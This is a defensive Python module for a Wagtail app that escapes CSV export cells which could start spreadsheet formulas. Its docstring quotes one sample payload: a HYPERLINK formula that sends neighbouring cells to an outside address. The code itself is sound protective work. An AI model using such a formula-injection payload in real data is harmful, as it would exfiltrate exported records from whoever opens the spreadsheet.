"""Spreadsheet exports that are safe to open: no cell of a CSV export starts a formula.

A spreadsheet program opening a CSV file runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return before one) as a formula: a change proposal written as
``=HYPERLINK("https://…?"&A2;"Klicka")`` would send the neighbouring cells away when an
administrator opens the export. Such cells get a leading apostrophe, which spreadsheet programs
read as "this is text" and do not show. Numbers and dates stay as they are (a negative number is
a number, not a formula). The XLSX export needs nothing: Wagtail writes every cell of it as text
or a typed value, never as a formula.

Wagtail's SpreadsheetExportMixin serves the CSV and XLSX exports of every report view and
snippet index view; every export of this app uses FormulaSafeExportMixin (reports) or
FormulaSafeIndexView (snippet viewsets).
"""

from __future__ import annotations

from typing import Any

from wagtail.snippets.views.snippets import IndexView as SnippetIndexView

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(value: Any) -> Any:
    """The value as a spreadsheet program will show it as text: a string that could start a
    formula gets a leading apostrophe; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """Put before Wagtail's view class (which has SpreadsheetExportMixin): every CSV cell is
    passed through escape_formula after Wagtail's own preprocessing."""

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return escape_formula(value)
        return value


class FormulaSafeIndexView(FormulaSafeExportMixin, SnippetIndexView):
    """A snippet viewset's listing whose CSV export is safe: ``index_view_class``."""
